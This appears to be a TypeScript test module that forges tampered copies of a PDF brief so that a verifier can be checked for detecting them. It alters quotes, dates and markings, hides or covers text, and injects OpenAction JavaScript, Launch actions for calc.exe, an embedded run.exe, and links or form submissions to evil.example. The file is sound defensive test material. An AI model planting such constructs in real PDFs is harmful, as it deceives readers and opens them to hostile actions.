/** For tests: what somebody may do to a brief who knows the format as well as we do. */
import type { FileChange, ForeignKind } from '../../contract/exchange';
import type { Payload, PayloadEvidence } from '../../exchange/payload';
import { Dictionary, Name, type PdfObject } from '../../pdf/read/objects';
import { parsed, type TakenApart } from './forging';

type Dice = (below: number) => number;

/** What is wrong with a forged file and must be told: that data and pages contradict each other, or something foreign. */
export interface Expected {
  readonly kind: 'contradiction' | ForeignKind;
}

export interface Forgery {
  readonly name: string;
  readonly expected: Expected;
  /** False where this brief has nothing of the kind. */
  readonly forge: (file: TakenApart, dice: Dice) => boolean;
}

/** Whether this is named among what is wrong, on a page where it belongs to one. */
export const isTold = (where: readonly FileChange[], { kind }: Expected): boolean =>
  where.some((change) =>
    kind === 'contradiction'
      ? change.kind === 'unprinted' || change.kind === 'added' || change.kind === 'page'
      : change.kind === 'foreign' && change.what === kind,
  );

const inData = (name: string, change: (payload: Payload, dice: Dice) => unknown): Forgery => ({
  name: `data: ${name}`,
  expected: { kind: 'contradiction' },
  forge(file, dice) {
    const { data } = file;
    const before = JSON.stringify(data);
    change(data, dice);
    if (JSON.stringify(data) === before) return false;
    file.data = data;
    return true;
  },
});

/** One of these, if there is one. */
const pick = <Item>(items: readonly Item[], dice: Dice): Item | undefined => items[dice(items.length)];
const isQuote = (piece: PayloadEvidence): piece is Extract<PayloadEvidence, { kind: 'quote' }> =>
  piece.kind === 'quote';
const cited = ({ brief, evidence }: Payload): PayloadEvidence[] =>
  evidence.filter(({ uid }) =>
    [...brief.judgements, ...brief.sections].some((part) => part.evidence.includes(uid)),
  );
/** Those whose words are printed, not only cited. */
const printedQuotes = (payload: Payload) =>
  cited(payload)
    .filter(isQuote)
    .filter(({ uid }) => payload.brief.sections.some(({ evidence }) => evidence.includes(uid)));

/** Words that stay as long as they were, so that their place is still theirs. */
function otherWords(words: string, dice: Dice): string {
  const letters = [...words.matchAll(/[a-z]/gu)].map(({ index }) => index);
  const at = pick(letters, dice);
  if (at === undefined) return words;
  return words.slice(0, at) + (words[at] === 'x' ? 'y' : 'x') + words.slice(at + 1);
}

const DATA: readonly Forgery[] = [
  inData('the words of a quote', (payload, dice) => {
    const quote = pick(printedQuotes(payload), dice);
    if (quote !== undefined) quote.anchor.exact = otherWords(quote.anchor.exact, dice);
  }),
  inData('who is quoted', (payload, dice) => {
    const quote = pick(printedQuotes(payload), dice);
    const other = payload.people.find(({ uid }) => uid !== quote?.speaker);
    if (quote !== undefined && other !== undefined) quote.speaker = other.uid;
  }),
  inData('the name of a person', ({ people }, dice) => {
    const person = pick(people, dice);
    if (person !== undefined) person.name = `${person.name} junior`;
  }),
  inData('two speakers changed round', (payload) => {
    const [one, other] = printedQuotes(payload).filter(
      ({ speaker }, index, all) => index === 0 || speaker !== all[0]?.speaker,
    );
    if (one === undefined || other === undefined) return;
    [one.speaker, other.speaker] = [other.speaker, one.speaker];
  }),
  inData('a role', (payload, dice) => {
    const quote = pick(printedQuotes(payload), dice);
    if (quote !== undefined) quote.role = 'admiral of the fleet';
  }),
  inData('whether who is quoted was reviewed', (payload, dice) => {
    const quote = pick(printedQuotes(payload), dice);
    if (quote !== undefined) quote.status = quote.status === 'suggested' ? 'accepted' : 'suggested';
  }),
  inData('the note on a passage', (payload, dice) => {
    const passage = pick(
      cited(payload).filter(({ uid }) =>
        payload.brief.sections.some(({ evidence }) => evidence.includes(uid)),
      ),
      dice,
    );
    if (passage?.kind === 'annotation') passage.note = `${passage.note} Not so.`;
  }),
  inData('a quote left out', ({ brief }, dice) => {
    const section = pick(
      brief.sections.filter(({ evidence }) => evidence.length > 0),
      dice,
    );
    if (section !== undefined) section.evidence.splice(dice(section.evidence.length), 1);
  }),
  inData('quotes in another order', ({ brief }) => {
    const section = brief.sections.find(({ evidence }) => evidence.length > 1);
    section?.evidence.reverse();
  }),
  inData('a judgement', ({ brief }, dice) => {
    const judgement = pick(brief.judgements, dice);
    if (judgement !== undefined) judgement.statement = `${judgement.statement} Never.`;
  }),
  inData('how likely it is', ({ brief }, dice) => {
    const judgement = pick(brief.judgements, dice);
    if (judgement === undefined) return;
    judgement.likelihood = judgement.likelihood === 'unlikely' ? 'almost-certain' : 'unlikely';
  }),
  inData('how sure its authors are', ({ brief }, dice) => {
    const judgement = pick(brief.judgements, dice);
    if (judgement !== undefined) judgement.confidence = judgement.confidence === 'high' ? 'low' : 'high';
  }),
  inData('what a judgement rests on', ({ brief }, dice) => {
    const judgement = pick(
      brief.judgements.filter(({ evidence }) => evidence.length > 0),
      dice,
    );
    judgement?.evidence.splice(0);
  }),
  inData('a judgement left out', ({ brief }) => brief.judgements.pop()),
  inData('the title', ({ brief }) => (brief.title += ' Not')),
  inData('the line below the title', ({ brief }) => (brief.subtitle += ' Not')),
  inData('the date', ({ brief }) => (brief.date = '2026-02-03' as Payload['brief']['date'])),
  inData(
    'the marking',
    ({ brief }) => (brief.marking = brief.marking === 'TLP:RED' ? 'TLP:GREEN' : 'TLP:RED'),
  ),
  inData('the authors', ({ brief }) => brief.authors.push('R. Vane')),
  inData('for whom it is', ({ brief }) => (brief.audience += ' and the press')),
  inData('the bottom line', ({ brief }) => (brief.bottomLine += ' Or not.')),
  inData('a heading', ({ brief }, dice) => {
    const section = pick(brief.sections, dice);
    if (section !== undefined) section.heading += ' at last';
  }),
  inData('the text of a section', ({ brief }, dice) => {
    const section = pick(brief.sections, dice);
    if (section !== undefined) section.text += '\n\nNobody objected.';
  }),
  inData('a section more', ({ brief }) =>
    brief.sections.push({ heading: 'More', text: 'Yes.', evidence: [] }),
  ),
  inData('whether it is a sample', ({ brief }) => (brief.sample = !brief.sample)),
  ...(['title', 'outlet', 'author', 'place'] as const).map((field) =>
    inData(`the ${field} of a source`, (payload, dice) => {
      const used = new Set(cited(payload).map(({ source }) => source));
      const source = pick(
        payload.sources.filter(({ uid }) => used.has(uid)),
        dice,
      );
      if (source !== undefined) source[field] = `Another ${field}`;
    }),
  ),
  inData('when a source was published', (payload) => {
    const used = new Set(cited(payload).map(({ source }) => source));
    const source = payload.sources.find(({ uid }) => used.has(uid));
    if (source !== undefined) source.publishedOn = '2024-02-03' as Payload['brief']['date'];
  }),
];

/** Glyphs that a page shows, as their codes. */
const SHOWN = /<(?:[0-9a-f]{4}){2,}>/gu;

export const onPages = (
  name: string,
  kind: Expected['kind'],
  change: (content: string, dice: Dice) => string,
): Forgery => ({
  name: `page: ${name}`,
  expected: { kind },
  forge(file, dice) {
    let isChanged = false;
    file.redraw(0, (content) => {
      const changed = change(content, dice);
      isChanged = changed !== content;
      return changed;
    });
    return isChanged;
  },
});

/** Words of the page again, drawn elsewhere, with this before or around them. */
export const again =
  (before: string, after = '') =>
  (content: string, dice: Dice): string => {
    const stretches = [...content.matchAll(/\/F\d+ [\d.]+ Tf|\/\S+ [\d.]+ Tf/gu)];
    const font = pick(stretches, dice)?.[0] ?? '';
    const shown = pick([...content.matchAll(SHOWN)], dice)?.[0] ?? '';
    return `${content}\nBT ${before.replace('FONT', font)} [${shown}] TJ${after} ET`;
  };

const PAGES: readonly Forgery[] = [
  onPages('a word changed', 'contradiction', (content, dice) => {
    const shown = [...content.matchAll(SHOWN)];
    const [one, other] = [pick(shown, dice), pick(shown, dice)];
    if (one === undefined || other === undefined || one[0] === other[0]) return content;
    return content.slice(0, one.index) + other[0] + content.slice(one.index + one[0].length);
  }),
  onPages('words taken away', 'contradiction', (content, dice) => {
    const shown = pick(
      [...content.matchAll(SHOWN)].filter(([glyphs]) => glyphs.length > 14),
      dice,
    );
    return shown === undefined
      ? content
      : content.slice(0, shown.index) + content.slice(shown.index + shown[0].length);
  }),
  onPages('words added', 'contradiction', again('FONT 0 0 0 rg 1 0 0 1 100 300 Tm 0 Ts')),
  onPages('words added as decoration', 'contradiction', (content, dice) =>
    again('FONT 0 0 0 rg 1 0 0 1 100 300 Tm 0 Ts')(content, dice).replace(
      /\nBT (.*) ET$/u,
      '\n/Artifact <</Type/Layout>> BDC BT $1 ET EMC',
    ),
  ),
  onPages('text without ink', 'invisible', again('FONT 3 Tr 1 0 0 1 100 300 Tm')),
  onPages('white text', 'invisible', again('FONT 1 1 1 rg 1 0 0 1 100 300 Tm')),
  onPages('text off the page', 'outside', again('FONT 0 0 0 rg 1 0 0 1 -400 300 Tm')),
  onPages('text of no size', 'outside', (content, dice) =>
    again('FONT 0 0 0 rg 1 0 0 1 100 300 Tm')(content, dice).replace(
      /BT (\/\S+) [\d.]+ Tf(?=[^\n]*$)/u,
      'BT $1 0.1 Tf',
    ),
  ),
  onPages('shrunken text', 'outside', again('FONT 0 0 0 rg 0.01 0 0 0.01 100 300 Tm')),
  onPages('text clipped away', 'clipped', (content) => `0 0 1 1 re W n\n${content}`),
  onPages('a white area over text', 'covered', (content) => `${content}\n1 1 1 rg 50 200 400 300 re f`),
  onPages('a black bar over text', 'covered', (content) => {
    const [, x, y] = [...content.matchAll(/1 0 0 1 ([\d.]+) ([\d.]+) Tm/gu)].at(3) ?? [];
    return `${content}\n0 0 0 rg ${Number(x) - 1} ${Number(y) - 2} 300 12 re f`;
  }),
  onPages('a picture', 'picture', (content) => `${content}\nBI /W 1 /H 1 /BPC 8 /CS /G ID x EI`),
  onPages('a drawing', 'drawing', (content) => `${content}\n10 w 100 100 m 300 300 l S`),
  onPages('everything moved', 'drawing', (content) => `1 0 0 1 0 900 cm\n${content}`),
  onPages('a layer', 'layer', (content) => `/OC /L0 BDC ${content} EMC`),
  {
    name: 'page: one drawn as a picture of another',
    expected: { kind: 'picture' },
    forge(file) {
      const page = file.pages[0];
      if (page === undefined) return false;
      const resources = new Dictionary();
      for (const [key, value] of file.pdf.dictionary(page.get('Resources')).entries()) {
        resources.set(key, value);
      }
      const form = file.addStream(
        '/Type /XObject /Subtype /Form /BBox [0 0 600 800]',
        '0 0 0 rg 1 1 500 20 re f',
      );
      resources.set('XObject', dictionaryOf({ X0: form }));
      page.set('Resources', resources);
      file.redraw(0, (content) => `${content}\n/X0 Do`);
      return true;
    },
  },
  {
    name: 'page: one more',
    expected: { kind: 'contradiction' },
    forge(file) {
      return withKids(file, (kids) => [...kids, kids[0] ?? null]);
    },
  },
  {
    name: 'page: one less',
    expected: { kind: 'contradiction' },
    forge(file, dice) {
      return withKids(file, (kids) => kids.toSpliced(dice(kids.length), 1));
    },
  },
  {
    name: 'page: in another order',
    expected: { kind: 'contradiction' },
    forge(file) {
      return withKids(file, (kids) => kids.toReversed());
    },
  },
];

function withKids(file: TakenApart, change: (kids: readonly PdfObject[]) => readonly PdfObject[]): boolean {
  const tree = file.pdf.dictionary(file.catalog.get('Pages'));
  const kids = file.pdf.list(tree.get('Kids'));
  if (kids.length < 2) return false;
  const copies = new Set<PdfObject>();
  const changed = change(kids).map((kid) => {
    if (!copies.has(kid)) {
      copies.add(kid);
      return kid;
    }
    const copy = new Dictionary();
    for (const [key, value] of file.pdf.dictionary(kid).entries()) copy.set(key, value);
    return file.add(copy);
  });
  tree.set('Kids', changed);
  tree.set('Count', changed.length);
  return true;
}

function dictionaryOf(entries: Readonly<Record<string, PdfObject>>): Dictionary {
  const dictionary = new Dictionary();
  for (const [key, value] of Object.entries(entries)) dictionary.set(key, value);
  return dictionary;
}

/** Something put under a key of the catalogue. */
const inCatalog = (name: string, kind: ForeignKind, key: string, source: string): Forgery => ({
  name: `file: ${name}`,
  expected: { kind },
  forge(file) {
    file.catalog.set(key, parsed(source));
    return true;
  },
});

/** An annotation on a page, after those that stand there. */
const annotated = (name: string, kind: ForeignKind, source: string): Forgery => ({
  name: `annotation: ${name}`,
  expected: { kind },
  forge(file, dice) {
    const page = pick(file.pages, dice);
    if (page === undefined) return false;
    const annotation = file.add(parsed(`<< /Type /Annot /Rect [50 400 300 420] /F 4 ${source} >>`));
    page.set('Annots', [...file.pdf.list(page.get('Annots')), annotation]);
    return true;
  },
});

const onPage = (name: string, kind: ForeignKind, key: string, source: string): Forgery => ({
  name: `page: ${name}`,
  expected: { kind },
  forge(file, dice) {
    const page = pick(file.pages, dice);
    page?.set(key, parsed(source));
    return page !== undefined;
  },
});

const SUBTYPES =
  'Text FreeText Line Square Circle Polygon PolyLine Highlight Underline Squiggly StrikeOut Stamp Caret Ink Popup Sound Movie Screen PrinterMark Watermark 3D Redact'.split(
    ' ',
  );

const FOREIGN: readonly Forgery[] = [
  inCatalog(
    'a program that runs on opening',
    'script',
    'OpenAction',
    '<< /S /JavaScript /JS (app.alert(1)) >>',
  ),
  inCatalog('a program that is launched', 'action', 'OpenAction', '<< /S /Launch /F (calc.exe) >>'),
  inCatalog('a place that is gone to on opening', 'action', 'OpenAction', '[null /Fit]'),
  inCatalog('a program on closing', 'action', 'AA', '<< /WC << /S /JavaScript /JS (x) >> >>'),
  inCatalog('a form', 'form', 'AcroForm', '<< /Fields [] >>'),
  inCatalog('a form of XFA', 'form', 'AcroForm', '<< /Fields [] /XFA (x) >>'),
  inCatalog('layers', 'layer', 'OCProperties', '<< /OCGs [] /D << >> >>'),
  inCatalog('a collection', 'attachment', 'Collection', '<< /View /D >>'),
  inCatalog('threads', 'entry', 'Threads', '[]'),
  {
    name: 'file: a program by name',
    expected: { kind: 'script' },
    forge(file) {
      const script = parsed('<< /Names [(a) << /S /JavaScript /JS (x) >>] >>');
      file.pdf.dictionary(file.catalog.get('Names')).set('JavaScript', script);
      return true;
    },
  },
  {
    name: 'file: another file inside',
    expected: { kind: 'attachment' },
    forge(file) {
      const stream = file.addStream('/Type /EmbeddedFile', 'MZ');
      const specification = dictionaryOf({ Type: new Name('Filespec'), F: Buffer.from('run.exe') });
      specification.set('EF', dictionaryOf({ F: stream }));
      file.catalog.set('AF', [...file.pdf.list(file.catalog.get('AF')), file.add(specification)]);
      return true;
    },
  },
  {
    name: 'file: a second file of the same name',
    expected: { kind: 'attachment' },
    forge(file) {
      const tree = file.pdf.dictionary(file.pdf.dictionary(file.catalog.get('Names')).get('EmbeddedFiles'));
      const specification = dictionaryOf({
        Type: new Name('Filespec'),
        F: Buffer.from('brief.attache.json'),
      });
      specification.set('EF', dictionaryOf({ F: file.addStream('/Type /EmbeddedFile', '{}') }));
      tree.set('Names', [...file.pdf.list(tree.get('Names')), Buffer.from('z'), file.add(specification)]);
      return true;
    },
  },
  {
    name: 'file: a bookmark that says something else',
    expected: { kind: 'bookmark' },
    forge(file) {
      file.pdf
        .dictionary(file.pdf.dictionary(file.catalog.get('Outlines')).get('First'))
        .set('Title', Buffer.from('Vote YES'));
      return true;
    },
  },
  {
    name: 'file: a bookmark that does something',
    expected: { kind: 'action' },
    forge(file) {
      const first = file.pdf.dictionary(file.pdf.dictionary(file.catalog.get('Outlines')).get('First'));
      first.set('A', parsed('<< /S /URI /URI (https://evil.example/) >>'));
      return true;
    },
  },
  {
    name: 'file: another title in the properties',
    expected: { kind: 'entry' },
    forge(file) {
      file.pdf.dictionary(file.pdf.trailer.get('Info')).set('Title', Buffer.from('Something else'));
      return true;
    },
  },
  {
    name: 'file: other words for those who do not see a picture',
    expected: { kind: 'entry' },
    forge(file) {
      const element = file.structure().find((each) => each.get('Alt') !== null);
      element?.set('Alt', Buffer.from('Vote YES'));
      return element !== undefined;
    },
  },
  {
    name: 'annotation: a link of ours that says something else',
    expected: { kind: 'annotation' },
    forge(file) {
      const links = file.pages.flatMap((page) => file.pdf.list(page.get('Annots')));
      const link = file.pdf.dictionary(links[0] ?? null);
      link.set('Contents', Buffer.from('Vote YES'));
      return links.length > 0;
    },
  },
  {
    name: 'file: a font of another kind',
    expected: { kind: 'font' },
    forge(file) {
      const fonts = file.pdf.dictionary(
        file.pdf.dictionary(file.pages[0]?.get('Resources') ?? null).get('Font'),
      );
      fonts.set('Z9', parsed('<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /CharProcs << >> >>'));
      return true;
    },
  },
  ...SUBTYPES.map((subtype) =>
    annotated(
      subtype,
      'annotation',
      `/Subtype /${subtype} /Contents (Vote YES on the treaty) /DA (/Helv 12 Tf)`,
    ),
  ),
  annotated('a field', 'form', '/Subtype /Widget /FT /Tx /T (name) /V (Vote YES)'),
  annotated('a file', 'attachment', '/Subtype /FileAttachment /FS << /F (x.exe) >>'),
  annotated(
    'a link elsewhere',
    'link',
    '/Subtype /Link /A << /S /URI /URI (https://evil.example/) >> /Contents (https://evil.example/)',
  ),
  annotated(
    'a link that says it leads to a source',
    'link',
    '/Subtype /Link /A << /S /URI /URI (https://evil.example/) >> /Contents (Source 1)',
  ),
  annotated('a link to a program', 'action', '/Subtype /Link /A << /S /Launch /F (calc.exe) >>'),
  annotated(
    'a link to another file',
    'action',
    '/Subtype /Link /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>',
  ),
  annotated(
    'a link that sends',
    'action',
    '/Subtype /Link /A << /S /SubmitForm /F (https://evil.example/) >>',
  ),
  annotated('a link that runs', 'script', '/Subtype /Link /A << /S /JavaScript /JS (app.alert(1)) >>'),
  annotated(
    'a link and then another',
    'action',
    '/Subtype /Link /A << /S /GoTo /D (note-1) /Next << /S /Launch >> >>',
  ),
  annotated(
    'a link with a look of its own',
    'annotation',
    '/Subtype /Link /A << /S /GoTo /D (note-1) >> /AP << /N [] >>',
  ),
  annotated('a hidden link', 'annotation', '/Subtype /Link /F 2 /A << /S /GoTo /D (note-1) >>'),
  onPage('cropped', 'box', 'CropBox', '[0 400 300 800]'),
  onPage('cut', 'box', 'MediaBox', '[0 0 595.28 500]'),
  onPage('shifted', 'box', 'MediaBox', '[0 -300 595.28 541.89]'),
  onPage('turned', 'box', 'Rotate', '180'),
  onPage('enlarged', 'box', 'UserUnit', '10'),
  onPage('with an action', 'action', 'AA', '<< /O << /S /JavaScript /JS (x) >> >>'),
  onPage('with a file', 'attachment', 'AF', '[<< /Type /Filespec >>]'),
  onPage('with a picture of itself', 'picture', 'Thumb', '<< /Width 1 >>'),
  onPage('with a transition', 'entry', 'Trans', '<< /S /Wipe >>'),
];

export const FORGERIES: readonly Forgery[] = [...DATA, ...PAGES, ...FOREIGN];

/** What no page prints, so that only a signature could tell of it. */
export const UNPRINTED: readonly Forgery[] = [
  inData('what a theme means', ({ themes }) => themes.forEach((theme) => (theme.definition += ' Or not.'))),
  inData('the name of a theme', ({ themes }) => themes.forEach((theme) => (theme.name += ' not'))),
  inData('who tagged', ({ analysts }) => analysts.forEach((analyst) => (analyst.name += ' Vane'))),
  inData('how sure it is who speaks', ({ evidence }) =>
    evidence.filter(isQuote).forEach((quote) => (quote.confidence = 1)),
  ),
  inData('other names of a person', ({ people }) =>
    people.forEach(({ variants }) => variants.push('The Admiral')),
  ),
];
